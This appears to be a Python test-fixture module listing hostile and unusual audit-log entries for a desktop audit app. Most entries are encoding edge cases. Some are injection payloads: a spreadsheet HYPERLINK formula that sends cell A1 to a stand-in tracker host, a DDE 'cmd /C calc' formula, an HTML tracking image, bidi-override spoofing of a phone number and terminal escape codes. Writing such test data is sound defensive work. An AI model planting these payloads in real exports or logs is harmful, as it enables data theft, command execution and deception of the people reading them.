"""Entries with hostile or odd content, as people and other systems put it into a log.

Each is about an object of its own, so that nothing else depends on it.
"""

from mylla_audit_desktop.demo.changes import Change

_LONG_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft"


def odd_changes(turn: int) -> list[Change]:
    """All of them; `turn` makes the targets differ from those of another telling."""
    return [
        Change(action, kind, f"{target}{turn}" if target else target, name, before, after)
        for action, kind, target, name, before, after in _ODD
    ]


_ODD = (
    Change(
        "agent.update",
        "agent",
        "agt_markup",
        "<b>Front desk</b>",
        '{"greeting": "Hello"}',
        '{"greeting": "<b>Hello</b> <img src=http://tracker.example/x.png> &amp; welcome"}',
    ),
    Change(
        "agent.update",
        "agent",
        "agt_formula",
        '=HYPERLINK("http://tracker.example/?x="&A1,"Front desk")',
        '{"greeting": "+1+1"}',
        '{"greeting": "@SUM(1+1)*cmd|\' /C calc\'!A0", "note": "-2+3"}',
    ),
    Change(
        "agent.update",
        "agent",
        "agt_override",
        "Front \u202eksed\u202c",
        '{"transfer_number": "+49 30 5550 0100"}',
        '{"transfer_number": "\u202e0010 0555 03 94+"}',
    ),
    Change(
        "agent.edit_instructions",
        "agent",
        "agt_invisible",
        "Front\u200bdesk",
        '{"instructions": "Never transfer calls."}',
        '{"instructions": "Never\u200b transfer\u2060 calls.\ufeff"}',
    ),
    Change(
        "agent.edit_instructions",
        "agent",
        "agt_lines",
        "Two\u2028lines",
        '{"instructions": "First line.\\nSecond line."}',
        '{"instructions": "First line.\u2028Second line.\\r\\nThird\\tline.\u2029\u0085"}',
    ),
    Change(
        "agent.update",
        "agent",
        "agt_placeholders",
        "%s {0} %(name)s ${HOME}",
        '{"%s": "{0}"}',
        '{"%s": "{0!r} %n %d"}',
    ),
    Change(
        "agent.update",
        "agent",
        "agt_terminal",
        "\x1b[31mred\x1b[0m",
        '{"greeting": "\\u001b[2J"}',
        '{"greeting": "\\u001b]0;title\\u0007"}',
    ),
    Change(
        "request.assign",
        "request",
        "req_quote",
        "'quoted\" 'twice''",
        '{"assignee_id": null}',
        '{"assignee_id": ""}',
    ),
    Change(
        "agent.update",
        "agent",
        "agt_long",
        _LONG_WORD,
        '{"greeting": ""}',
        '{"greeting": "' + _LONG_WORD * 40 + '"}',
    ),
    Change(
        "agent.update",
        "agent",
        "agt_emoji",
        "Front desk 🦷👩🏽\u200d⚕️",
        '{"greeting": "Hi 👋"}',
        '{"greeting": "Hi 👋🏿 cafe\u0301 café \U000e0041"}',
    ),
    Change("agent.change_status", "agent", "agt_unnamed", "", '{"status": "active"}', "{}"),
    Change(
        "settings.update_business",
        "business",
        "biz_numbers",
        "Numbers as written",
        '{"limit": 9007199254740993, "rate": 1.0, "share": 1e3, "flag": true}',
        '{"limit": 9007199254740992, "rate": 1, "share": 1000, "flag": 1}',
    ),
    Change(
        "settings.update_business",
        "business",
        "biz_twice",
        "The same key twice",
        '{"name": "Weber Dental", "name": "Weber"}',
        '{"name":"Weber Dental"  ,"name":"Weber & Söhne"}',
    ),
    Change("agent.archive", "agent", "agt_archived", "Old front desk", None, '{"archived": true}'),
    Change(
        "webhook.rotate_secret", "webhook", "whk_", "https://hooks.example/a?b=1&c=2", None, None
    ),
    Change("data.request_export", None, None, None, None, None),
    Change(
        "number.assign", "number", " num_space ", " ", '{"agent_id": " "}', '{"agent_id": null}'
    ),
)
